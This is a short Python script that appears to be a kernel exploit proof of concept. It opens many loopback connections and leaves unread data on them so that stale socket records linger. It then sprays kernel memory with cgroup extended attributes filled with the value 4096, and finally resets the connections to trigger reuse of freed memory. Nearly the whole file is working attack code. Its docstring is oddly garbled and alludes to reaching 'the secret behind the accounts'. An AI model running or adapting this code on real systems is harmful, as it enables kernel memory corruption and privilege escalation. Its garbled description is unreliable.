#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Clients that reset connections whose servers' ends have gone, and their memory serves other data.

stale_record.py CONNECTIONS DIRECTORY

DIRECTORY, of a cgroup that is the caller's, gets cgroups with extended attributes: the kernel keeps
these in memory of the size of a record.  All their words are 4096, the place of the secret behind
the accounts (accounts.h).
"""
import os
import resource
import socket
import struct
import sys
import time

count, directory = int(sys.argv[1]), sys.argv[2]
most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
listener = socket.create_server(("127.0.0.1", 0), backlog=1024)
clients = []
while len(clients) < count:
    servers = []
    for _ in range(40):
        client = socket.create_connection(listener.getsockname())
        server, _ = listener.accept()
        for _ in range(5):
            client.sendall(b"q")
            server.recv(1)
            server.sendall(b"a")
            client.recv(1)
        server.sendall(b"u")  # unread: the client's end stays in the map
        clients.append(client)
        servers.append(server)
    for server in servers:
        server.close()
    time.sleep(0.02)
time.sleep(0.3)
for cpu in os.sched_getaffinity(0):
    os.sched_setaffinity(0, {cpu})
    for n in range(40):
        path = f"{directory}/{cpu}.{n}"
        os.mkdir(path)
        for attribute in range(80):
            os.setxattr(path, f"user.{attribute}", struct.pack("<56Q", *[4096] * 56))
for client in clients:
    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    client.close()
